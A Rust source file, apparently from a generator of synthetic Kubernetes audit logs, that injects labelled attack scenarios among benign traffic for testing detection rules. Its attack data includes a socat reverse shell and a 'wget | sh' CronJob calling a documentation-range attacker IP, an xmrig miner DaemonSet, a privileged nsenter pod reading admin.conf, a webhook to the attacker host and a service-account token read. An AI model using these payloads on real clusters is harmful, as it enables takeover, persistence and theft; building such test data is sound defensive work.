//! Attack steps, injected among the everyday traffic when `Config::attacks` is on. Each scenario is a short
//! sequence of requests by one actor, seconds apart, drawn from the techniques the built-in rules must
//! catch. Two are slow and run beside the others: the tampering with a production Deployment (a legitimate
//! CI update, minutes later an image swap, a privileged sidecar, a database session of minutes by exec), and
//! an access grant (an EKS administrator binds a contractor to a Role reading prod secrets, the contractor
//! reads them from outside, the binding is widened, later revoked, and the contractor's next read refused;
//! see [`crate::access_grant`]). Nothing in an event says it is an attack; the generator tells it on the side.

use std::sync::Arc;

use crate::access_grant as ag;
use crate::cluster::{Cluster, Pod, contractor, eks_admin, sa_groups, sa_user};
use crate::event::*;
use crate::objects;
use crate::rng::Rand;
use crate::time::ts_secs;

/// The workload-tamper scenario: the image CI deploys, the image and sidecar the attacker puts in its place,
/// and the patch that swaps the image.
const PAYMENTS_IMAGE: &str = "registry.example.com/payments/api:v1.42.3";
const EVIL_IMAGE: &str = "evil.example/payments/api:v1.42.3";
const IMAGE_SWAP_PATCH: &str = r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example/payments/api:v1.42.3"}]}}}}"#;
const SIDECAR_IMAGE: &str = "docker.io/library/alpine:3.19";
const SIDECAR_COMMAND: &[&str] = &[
    "sh",
    "-c",
    "apk add --no-cache socat >/dev/null 2>&1; while true; do socat TCP:198.51.100.77:4443 EXEC:/bin/sh,pty,stderr; sleep 30; done",
];
/// When the Deployment was first created (it predates every run).
const PAYMENTS_CREATED: &str = "2025-03-11T09:26:40Z";

/// Where attackers come from (documentation addresses: no real host).
const ATTACKER_IP: &str = "198.51.100.77";
const ATTACKER_UA: &str = "kubectl/v1.27.3 (linux/amd64) kubernetes/25b4e43";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Scenario {
    StolenToken,
    RbacEscalation,
    AnonymousRecon,
    ForbiddenBurst,
    TokenTheft,
    Impersonation,
    NodeProxy,
    Persistence,
    ProductionExec,
    /// A slow one, up to twenty minutes (longer than a whole cycle of the others at 100 events/s): it runs
    /// beside the cycle, not in it (see [`SLOW_SCENARIOS`]).
    WorkloadTamper,
    /// Slow too (about 30 to 115 minutes): an access grant, its use, widening and revocation.
    AccessGrant,
}

/// The short scenarios, one after the other in an order each seed shuffles.
pub(crate) const SCENARIOS: [Scenario; 9] = [
    Scenario::StolenToken,
    Scenario::RbacEscalation,
    Scenario::AnonymousRecon,
    Scenario::ForbiddenBurst,
    Scenario::TokenTheft,
    Scenario::Impersonation,
    Scenario::NodeProxy,
    Scenario::Persistence,
    Scenario::ProductionExec,
];

/// A scenario that starts with each cycle of [`SCENARIOS`] (unless its last run is still under way), drawn
/// from its own random stream so that the short scenarios of a seed are where they were before it existed.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Slow {
    pub scenario: Scenario,
    /// The ChaCha stream of its draws (0 and 1 are the traffic's and the short scenarios').
    pub stream: u64,
    /// Its lines come on top of the everyday traffic's, instead of in the places the traffic would have had:
    /// the other lines of a seed stay the bytes they were before the scenario existed.
    pub extra: bool,
}

/// The slow scenarios, started in this order at each cycle.
pub(crate) const SLOW_SCENARIOS: [Slow; 2] = [
    Slow {
        scenario: Scenario::WorkloadTamper,
        stream: 2,
        extra: false,
    },
    Slow {
        scenario: Scenario::AccessGrant,
        stream: 3,
        extra: true,
    },
];

/// The steps of a scenario in order, each with its delay from the scenario's start to when kube-apiserver
/// receives it.
struct Plan<'a> {
    rng: &'a mut Rand,
    t: i64,
    steps: Vec<(i64, Req)>,
}

impl Plan<'_> {
    /// Waits a human's pause (or a script's, for `ms` ranges below a second).
    fn wait(&mut self, min_ms: u64, max_ms: u64) {
        self.t += self.rng.range(min_ms, max_ms) as i64 * 1000;
    }

    fn push(&mut self, mut req: Req) {
        req.attack = true;
        self.steps.push((self.t, req));
    }

    /// A step that is not the attacker's (the legitimate change a scenario tampers with afterwards).
    fn push_benign(&mut self, req: Req) {
        self.steps.push((self.t, req));
    }

    fn res(&mut self, a: &Actor, verb: &'static str, oref: ObjRef, query: &str) -> Req {
        Req::resource(self.rng, a, verb, oref, query)
    }
}

fn sa_actor(
    rng: &mut Rand,
    c: &Cluster,
    ns: &str,
    app: &str,
    ip: Option<&str>,
    ua: &str,
    reason: &str,
) -> Actor {
    let wl = c
        .workloads
        .iter()
        .find(|w| w.ns == ns && w.app == app)
        .unwrap_or(&c.workloads[0]);
    let pod = &wl.pods[0];
    let user = sa_user(rng, wl.ns, wl.sa, pod, &c.nodes[pod.node].name);
    Actor::new(user, ip.unwrap_or(&pod.ip), ua, reason)
}

fn anonymous(ip: &str, ua: &str, reason: &str) -> Actor {
    Actor::new(
        User::new("system:anonymous", &["system:unauthenticated"]),
        ip,
        ua,
        reason,
    )
}

/// The steps of `s`, started at `now` (µs since the epoch), in traffic of `rate` events a second.
pub(crate) fn steps(
    s: Scenario,
    rng: &mut Rand,
    c: &mut Cluster,
    now: i64,
    rate: f64,
) -> Vec<(i64, Req)> {
    let mut p = Plan {
        rng,
        t: 0,
        steps: Vec::new(),
    };
    match s {
        Scenario::StolenToken => {
            let reason = "RBAC: allowed by ClusterRoleBinding \"web-frontend-debug\" of ClusterRole \"secret-reader\" to ServiceAccount \"web-frontend/staging\"";
            let a = sa_actor(
                p.rng,
                c,
                "staging",
                "web-frontend",
                Some(ATTACKER_IP),
                ATTACKER_UA,
                reason,
            );
            let body = r#"{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"staging"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}"#;
            let mut r = p
                .res(&a, "create", SELFSUBJECTRULESREVIEWS.all(""), "")
                .with_object(Level::Request, objects::literal(body));
            r.code = 201;
            r.reason = "RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"".into();
            p.push(r);
            p.wait(3_000, 15_000);
            let r = p.res(&a, "list", SECRETS.all(""), "limit=500");
            p.push(r);
            for name in ["payments-api-db", "stripe-api-key"] {
                p.wait(2_000, 9_000);
                let r = p.res(&a, "get", SECRETS.at("prod-payments", name, ""), "");
                p.push(r);
            }
            p.wait(1_000, 6_000);
            let r = p
                .res(&a, "list", PODS.all("kube-system"), "limit=500")
                .forbidden();
            p.push(r);
        }
        Scenario::RbacEscalation => {
            let admin = c.humans[3].clone();
            let a = Actor {
                ip: ATTACKER_IP.into(),
                ua: ATTACKER_UA.into(),
                ..admin
            };
            let subject = "system:serviceaccount:default:default";
            let body = objects::cluster_role_binding(
                "default-sa-admin",
                "cluster-admin",
                "ServiceAccount",
                "default",
                "default",
            );
            let mut r = p
                .res(
                    &a,
                    "create",
                    CLUSTERROLEBINDINGS.at("", "default-sa-admin", ""),
                    "fieldManager=kubectl-create&fieldValidation=Strict",
                )
                .with_object(Level::RequestResponse, body.clone());
            r.response_object = Some(body);
            p.push(r);
            p.wait(20_000, 90_000);
            let pod = Pod {
                name: format!("kube-proxy-debug-{}", p.rng.suffix(5)),
                uid: p.rng.uuid(),
                node: 0,
                ip: String::new(),
            };
            let node = c.nodes[p.rng.below(c.nodes.len())].name.clone();
            let mut user = User::new(subject, &[]);
            user.groups = sa_groups("default");
            user.uid = Some(p.rng.uuid());
            let sa = Actor::new(
                user,
                ATTACKER_IP,
                "curl/8.4.0",
                "RBAC: allowed by ClusterRoleBinding \"default-sa-admin\" of ClusterRole \"cluster-admin\" to ServiceAccount \"default/default\"",
            );
            let body = objects::host_pod(
                &pod.name,
                "kube-system",
                &node,
                "docker.io/library/alpine:3.19",
                &[
                    "nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid",
                    "--", "sleep", "infinity",
                ],
            );
            let r = p
                .res(&sa, "create", PODS.at("kube-system", &pod.name, ""), "")
                .with_object(Level::Request, body)
                .annotate(
                    "pod-security.kubernetes.io/enforce-policy",
                    "privileged:latest",
                );
            p.push(r);
            p.wait(5_000, 20_000);
            let q = format!(
                "command=cat&command=%2Fhost%2Fetc%2Fkubernetes%2Fadmin.conf&container={}&stderr=true&stdout=true",
                pod.name
            );
            let mut r = p.res(&sa, "create", PODS.at("kube-system", &pod.name, "exec"), &q);
            r.code = 101;
            r.latency_us += 900_000;
            p.push(r);
        }
        Scenario::AnonymousRecon => {
            let ip = "198.51.100.140";
            let ua = "python-requests/2.31.0";
            let public = anonymous(ip, ua, &c.anonymous_reason);
            let r = Req::non_resource(p.rng, &public, "get", "/version");
            p.push(r);
            p.wait(300, 2_000);
            let r = p.res(&public, "list", PODS.all(""), "").forbidden();
            p.push(r);
            p.wait(300, 2_000);
            let r = p
                .res(&public, "list", SECRETS.all("kube-system"), "")
                .forbidden();
            p.push(r);
            p.wait(300, 2_000);
            let leaky = anonymous(
                ip,
                ua,
                "RBAC: allowed by RoleBinding \"legacy-anon-read/default\" of ClusterRole \"view\" to User \"system:anonymous\"",
            );
            let r = p.res(&leaky, "list", CONFIGMAPS.all("default"), "");
            p.push(r);
        }
        Scenario::ForbiddenBurst => {
            let a = sa_actor(
                p.rng,
                c,
                "prod-payments",
                "fraud-scorer",
                None,
                "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225",
                "RBAC: allowed by RoleBinding \"fraud-scorer/prod-payments\" of Role \"fraud-scorer\" to ServiceAccount \"fraud-scorer/prod-payments\"",
            );
            let n = p.rng.range(20, 40);
            let probes: [(&'static str, Res, &str); 8] = [
                ("list", SECRETS, ""),
                ("list", SECRETS, "prod-payments"),
                ("list", PODS, "kube-system"),
                ("get", CLUSTERROLES, ""),
                ("list", CLUSTERROLEBINDINGS, ""),
                ("list", NODES, ""),
                ("list", DEPLOYMENTS, "production"),
                ("list", SERVICEACCOUNTS, "kube-system"),
            ];
            for i in 0..n {
                if i > 0 {
                    p.wait(80, 700);
                }
                let (verb, res, ns) = *p.rng.pick(&probes);
                let oref = if verb == "get" {
                    res.at(ns, "cluster-admin", "")
                } else {
                    res.all(ns)
                };
                let r = p.res(&a, verb, oref, "").forbidden();
                p.push(r);
            }
            p.wait(200, 800);
            let r = p.res(
                &a,
                "get",
                CONFIGMAPS.at("prod-payments", "fraud-scorer-config", ""),
                "",
            );
            p.push(r);
        }
        Scenario::TokenTheft => {
            let a = c.humans[4].clone();
            let target = "generic-garbage-collector";
            let body = r#"{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}"#;
            let mut r = p
                .res(
                    &a,
                    "create",
                    SERVICEACCOUNTS.at("kube-system", target, "token"),
                    "",
                )
                .with_object(Level::Request, objects::literal(body));
            r.code = 201;
            p.push(r);
            p.wait(30_000, 120_000);
            let user = User {
                name: format!("system:serviceaccount:kube-system:{target}"),
                uid: Some(p.rng.uuid()),
                groups: sa_groups("kube-system"),
                extra: vec![(
                    "authentication.kubernetes.io/credential-id",
                    format!("JTI={}", p.rng.uuid()),
                )],
            };
            let stolen = Actor::new(
                user,
                ATTACKER_IP,
                ATTACKER_UA,
                "RBAC: allowed by ClusterRoleBinding \"system:controller:generic-garbage-collector\" of ClusterRole \"system:controller:generic-garbage-collector\" to ServiceAccount \"generic-garbage-collector/kube-system\"",
            );
            let r = p.res(&stolen, "list", SECRETS.all(""), "limit=500");
            p.push(r);
            p.wait(2_000, 8_000);
            let r = p.res(&stolen, "list", CLUSTERROLEBINDINGS.all(""), "limit=500");
            p.push(r);
        }
        Scenario::Impersonation => {
            let mut a = c.humans[1].clone();
            a.reason = "".into();
            let target = Arc::new(User::new(
                "system:admin",
                &["system:masters", "system:authenticated"],
            ));
            let steps: [(&'static str, ObjRef); 3] = [
                ("get", SECRETS.at("prod-payments", "payments-api-db", "")),
                ("list", SECRETS.all("production")),
                ("get", SECRETS.at("production", "checkout-db", "")),
            ];
            for (i, (verb, oref)) in steps.into_iter().enumerate() {
                if i > 0 {
                    p.wait(2_000, 20_000);
                }
                let mut r = p.res(&a, verb, oref, "");
                r.impersonated = Some(target.clone());
                p.push(r);
            }
        }
        Scenario::NodeProxy => {
            let a = sa_actor(
                p.rng,
                c,
                "monitoring",
                "grafana",
                None,
                "curl/8.4.0",
                "RBAC: allowed by ClusterRoleBinding \"grafana-node-access\" of ClusterRole \"grafana-nodes\" to ServiceAccount \"grafana/monitoring\"",
            );
            let r = p.res(&a, "list", NODES.all(""), "");
            p.push(r);
            let node = c.nodes[p.rng.below(c.nodes.len())].name.clone();
            p.wait(1_000, 5_000);
            let mut r = p.res(&a, "get", NODES.at("", &node, "proxy"), "");
            r.uri.push_str("/pods");
            r.latency_us += 40_000;
            p.push(r);
            p.wait(2_000, 10_000);
            let victim = c
                .workloads
                .iter()
                .find(|w| w.app == "payments-api")
                .map(|w| w.pods[0].name.clone())
                .unwrap_or_default();
            let mut r = p.res(&a, "create", NODES.at("", &node, "proxy"), "");
            r.code = 200;
            r.uri.push_str(&format!("/run/prod-payments/{victim}/app?cmd=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"));
            p.push(r);
        }
        Scenario::Persistence => {
            let admin = c.humans[3].clone();
            let a = Actor {
                ip: ATTACKER_IP.into(),
                ua: ATTACKER_UA.into(),
                ..admin
            };
            let cron = r#"{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"etcd-defrag","namespace":"kube-system","creationTimestamp":null},"spec":{"schedule":"*/10 * * * *","jobTemplate":{"metadata":{"creationTimestamp":null},"spec":{"template":{"metadata":{"creationTimestamp":null},"spec":{"containers":[{"name":"etcd-defrag","image":"docker.io/library/alpine:3.19","command":["sh","-c","wget -qO- http://198.51.100.77:8080/s | sh"],"resources":{}}],"restartPolicy":"OnFailure","hostNetwork":true}}}}},"status":{}}"#;
            let r = p
                .res(
                    &a,
                    "create",
                    CRONJOBS.at("kube-system", "etcd-defrag", ""),
                    "",
                )
                .with_object(Level::Request, objects::literal(cron));
            p.push(r);
            p.wait(10_000, 60_000);
            let ds = r#"{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"node-metrics-agent","namespace":"kube-system","creationTimestamp":null},"spec":{"selector":{"matchLabels":{"app":"node-metrics-agent"}},"template":{"metadata":{"creationTimestamp":null,"labels":{"app":"node-metrics-agent"}},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"agent","image":"docker.io/xmrig/xmrig:6.21.0","resources":{},"volumeMounts":[{"name":"host","mountPath":"/host"}],"securityContext":{"privileged":true}}],"hostPID":true,"hostNetwork":true,"tolerations":[{"operator":"Exists"}]}},"updateStrategy":{}},"status":{"currentNumberScheduled":0,"numberMisscheduled":0,"desiredNumberScheduled":0,"numberReady":0}}"#;
            let r = p
                .res(
                    &a,
                    "create",
                    DAEMONSETS.at("kube-system", "node-metrics-agent", ""),
                    "",
                )
                .with_object(Level::Request, objects::literal(ds));
            p.push(r);
            p.wait(10_000, 60_000);
            let hook = r#"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-policy.example.io","creationTimestamp":null},"webhooks":[{"name":"pod-policy.example.io","clientConfig":{"url":"https://198.51.100.77:8443/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]}"#;
            let r = p
                .res(
                    &a,
                    "create",
                    MUTATINGWEBHOOKS.at("", "pod-policy.example.io", ""),
                    "",
                )
                .with_object(Level::Request, objects::literal(hook));
            p.push(r);
            p.wait(5_000, 30_000);
            let r = p.res(&a, "deletecollection", EVENTS.all("kube-system"), "");
            p.push(r);
        }
        Scenario::ProductionExec => {
            let mut a = c.humans[2].clone();
            a.reason = "RBAC: allowed by RoleBinding \"payments-oncall/prod-payments\" of ClusterRole \"edit\" to Group \"oidc:payments\"".into();
            let r = p.res(&a, "list", PODS.all("prod-payments"), "limit=500");
            p.push(r);
            let victim = c
                .workloads
                .iter()
                .find(|w| w.app == "payments-api")
                .map(|w| w.pods[0].name.clone())
                .unwrap_or_default();
            p.wait(3_000, 15_000);
            let mut r = p.res(
                &a,
                "create",
                PODS.at("prod-payments", &victim, "exec"),
                "command=env&container=app&stderr=true&stdout=true",
            );
            r.code = 101;
            r.latency_us += 400_000;
            p.push(r);
            p.wait(5_000, 40_000);
            let r = p.res(
                &a,
                "get",
                SECRETS.at("prod-payments", "stripe-api-key", ""),
                "",
            );
            p.push(r);
        }
        // One run at a time: this one is skipped while the last is under way.
        Scenario::WorkloadTamper if now < c.payments_busy_until => {}
        Scenario::WorkloadTamper => {
            let (ns, name) = ("prod-payments", "payments-api");
            let wl = c
                .workloads
                .iter()
                .find(|w| w.ns == ns && w.app == name)
                .unwrap_or(&c.workloads[0]);
            let replicas = wl.pods.len() as i64;
            let victim = wl.pods[0].name.clone();
            let old_rs = format!("{name}-{}", wl.hash);
            // The Deployment's uid is the same in every run: it is one object.
            let uid = Rand::new(wl.template_seed, 12).uuid();
            let new_rs = format!("{name}-{}", p.rng.suffix(10));
            let g0 = c.payments_generation;
            let (g1, g2) = (g0 + 1, g0 + 2);
            c.payments_generation = g0 + 3;
            p.wait(10_000, 120_000);
            let ci_at = p.t;
            let rv1 = c.bump();

            // CI deploys the release: `kubectl replace` of the manifest, logged with the stored object.
            let ci = c.ci_deployer.clone();
            let manifest = objects::PaymentsDeployment {
                ns,
                name,
                image: PAYMENTS_IMAGE,
                replicas,
                sidecar: None,
                stored: None,
            };
            let before = ts_secs(now - p.rng.range(2 * 3600, 30 * 3600) as i64 * 1_000_000);
            let stored = objects::PaymentsDeployment {
                stored: Some(objects::Stored {
                    uid: &uid,
                    resource_version: rv1,
                    generation: g1,
                    created: PAYMENTS_CREATED,
                    revision: g0 - 20,
                    observed_generation: g0,
                    progressed: &before,
                    replica_set: &old_rs,
                }),
                ..manifest.clone()
            };
            let mut r = p
                .res(
                    &ci,
                    "update",
                    DEPLOYMENTS.at(ns, name, ""),
                    "fieldManager=kubectl-replace&fieldValidation=Strict",
                )
                .with_object(
                    Level::RequestResponse,
                    objects::payments_deployment(&manifest),
                );
            r.response_object = Some(objects::payments_deployment(&stored));
            r.latency_us += 6_000 + p.rng.below(12_000) as i64;
            p.push_benign(r);

            // Minutes later, a payments on-call engineer's stolen credentials swap the image...
            let mut a = c.humans[2].clone();
            a.ip = ATTACKER_IP.into();
            a.ua = ATTACKER_UA.into();
            a.reason = "RBAC: allowed by RoleBinding \"payments-oncall/prod-payments\" of ClusterRole \"edit\" to Group \"oidc:payments\"".into();
            p.wait(180_000, 480_000);
            let patched_at = p.t;
            let r = p
                .res(
                    &a,
                    "patch",
                    DEPLOYMENTS.at(ns, name, ""),
                    "fieldManager=kubectl-patch",
                )
                .with_object(Level::Request, objects::literal(IMAGE_SWAP_PATCH));
            p.push(r);
            // ...read the Deployment back...
            p.wait(15_000, 60_000);
            let r = p.res(&a, "get", DEPLOYMENTS.at(ns, name, ""), "");
            p.push(r);
            // ...and replace it with the same plus a privileged container mounting the node's root.
            p.wait(5_000, 60_000);
            // The patch's resourceVersion: CI's, plus the cluster's writes in between (a few dozen a second);
            // the cluster's writes go on from there, so the next run's are later still.
            let rv2 = rv1 + ((patched_at - ci_at) / 1_000_000) as u64 * p.rng.range(20, 40);
            c.rv = c.rv.max(rv2 + 1);
            let rolled = ts_secs(now + patched_at + (p.t - patched_at) / 2);
            let body = objects::payments_deployment(&objects::PaymentsDeployment {
                image: EVIL_IMAGE,
                sidecar: Some(objects::Sidecar {
                    name: "metrics-agent",
                    image: SIDECAR_IMAGE,
                    command: SIDECAR_COMMAND,
                }),
                stored: Some(objects::Stored {
                    uid: &uid,
                    resource_version: rv2,
                    generation: g2,
                    created: PAYMENTS_CREATED,
                    revision: g2 - 20,
                    observed_generation: g2,
                    progressed: &rolled,
                    replica_set: &new_rs,
                }),
                ..manifest
            });
            let mut r = p
                .res(
                    &a,
                    "update",
                    DEPLOYMENTS.at(ns, name, ""),
                    "fieldManager=kubectl-replace&fieldValidation=Strict",
                )
                .with_object(Level::Request, body);
            r.latency_us += 4_000 + p.rng.below(10_000) as i64;
            p.push(r);

            // Then a database session from inside an API pod, the password on the command line: minutes long.
            p.wait(25_000, 150_000);
            let r = p.res(&a, "list", PODS.all(ns), "limit=500");
            p.push(r);
            p.wait(5_000, 30_000);
            let q = "command=mysql&command=-uroot&command=-pS3cr3t-Hunter2&command=payments&container=app&stdin=true&stdout=true&tty=true";
            let mut r = p.res(&a, "create", PODS.at(ns, &victim, "exec"), q);
            r.code = 101;
            r.latency_us += p.rng.range(120_000, 360_000) as i64 * 1_000;
            c.payments_busy_until = now + p.t + r.latency_us + 60_000_000;
            p.push(r);
        }
        Scenario::AccessGrant if now < c.access_grant_busy_until => {}
        Scenario::AccessGrant => access_grant(&mut p, c, now, rate),
    }
    p.steps
}

/// The access-grant scenario (see [`crate::access_grant`]). It changes nothing the everyday traffic reads:
/// its resourceVersions are estimated from the cluster's (a share of the traffic's requests are writes)
/// without moving it.
fn access_grant(p: &mut Plan<'_>, c: &mut Cluster, now: i64, rate: f64) {
    const RBAC_GROUP: &str = "rbac.authorization.k8s.io";
    let (ns, role, binding) = (ag::NAMESPACE, ag::ROLE, ag::BINDING);
    let rv0 = c.rv;
    let rv_at = |t: i64| rv0 + 1 + (t as f64 / 1e6 * rate * 0.4) as u64;
    const KEY_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let key: String = (0..16)
        .map(|_| KEY_ALPHABET[p.rng.below(KEY_ALPHABET.len())] as char)
        .collect();
    let admin = eks_admin(format!("ASIA{key}"));
    let eve = contractor();
    let role_uid = p.rng.uuid();
    let binding_uid = p.rng.uuid();
    let write = |p: &mut Plan<'_>, verb: &'static str, oref: ObjRef, query: &str, body: Vec<u8>| {
        p.res(&admin, verb, oref, query)
            .with_object(Level::RequestResponse, body)
    };

    // The administrator creates the Role and binds the contractor to it.
    p.wait(60_000, 300_000);
    let created = ts_secs(now + p.t);
    let stored = objects::StoredMeta {
        uid: &role_uid,
        resource_version: rv_at(p.t),
        created: &created,
    };
    let (verbs, resources) = (["get", "list"], ["secrets"]);
    let mut r = write(
        p,
        "create",
        ROLES.at(ns, role, ""),
        "fieldManager=kubectl-create&fieldValidation=Strict",
        objects::role(role, ns, &verbs, &resources, None),
    );
    r.response_object = Some(objects::role(role, ns, &verbs, &resources, Some(stored)));
    p.push_benign(r);
    p.wait(5_000, 40_000);
    let bound = ts_secs(now + p.t);
    let stored = objects::StoredMeta {
        uid: &binding_uid,
        resource_version: rv_at(p.t),
        created: &bound,
    };
    let one = [("User", ag::CONTRACTOR)];
    let mut r = write(
        p,
        "create",
        ROLEBINDINGS.at(ns, binding, ""),
        "fieldManager=kubectl-create&fieldValidation=Strict",
        objects::role_binding(binding, ns, role, &one, None),
    );
    r.response_object = Some(objects::role_binding(binding, ns, role, &one, Some(stored)));
    p.push_benign(r);

    // The contractor reads the namespace's secrets from outside.
    p.wait(180_000, 1_200_000);
    let r = p.res(&eve, "list", SECRETS.all(ns), "limit=500");
    p.push(r);
    for name in ag::SECRETS {
        p.wait(10_000, 60_000);
        let r = p.res(&eve, "get", SECRETS.at(ns, name, ""), "");
        p.push(r);
    }

    // The GitOps controller syncs an unrelated ClusterRole; the policy logs its writes without bodies.
    p.wait(300_000, 1_200_000);
    let gitops = c.operator("argocd-controller").actor.clone();
    let mut r = p.res(
        &gitops,
        "patch",
        CLUSTERROLES.at("", ag::METADATA_ONLY_ROLE, ""),
        "fieldManager=argocd-controller",
    );
    r.level = Level::Metadata;
    p.push_benign(r);

    // The administrator widens the binding to the contractor's group...
    p.wait(300_000, 900_000);
    let two = [("User", ag::CONTRACTOR), ("Group", ag::CONTRACTOR_GROUP)];
    let stored = objects::StoredMeta {
        uid: &binding_uid,
        resource_version: rv_at(p.t),
        created: &bound,
    };
    let mut r = write(
        p,
        "patch",
        ROLEBINDINGS.at(ns, binding, ""),
        "fieldManager=kubectl-patch",
        objects::subjects_patch(&two),
    );
    r.response_object = Some(objects::role_binding(binding, ns, role, &two, Some(stored)));
    p.push_benign(r);
    p.wait(120_000, 600_000);
    let r = p.res(&eve, "get", SECRETS.at(ns, ag::SECRETS[0], ""), "");
    p.push(r);

    // ...and later revokes it: the contractor's next read is refused.
    p.wait(600_000, 1_800_000);
    let mut r = write(
        p,
        "delete",
        ROLEBINDINGS.at(ns, binding, ""),
        "",
        objects::delete_options(&format!("{RBAC_GROUP}/v1")),
    );
    r.response_object = Some(objects::deleted_status(
        binding,
        RBAC_GROUP,
        "rolebindings",
        &binding_uid,
    ));
    p.push_benign(r);
    p.wait(60_000, 600_000);
    let r = p
        .res(&eve, "get", SECRETS.at(ns, ag::SECRETS[0], ""), "")
        .forbidden();
    c.access_grant_busy_until = now + p.t + r.latency_us + 60_000_000;
    p.push(r);
}
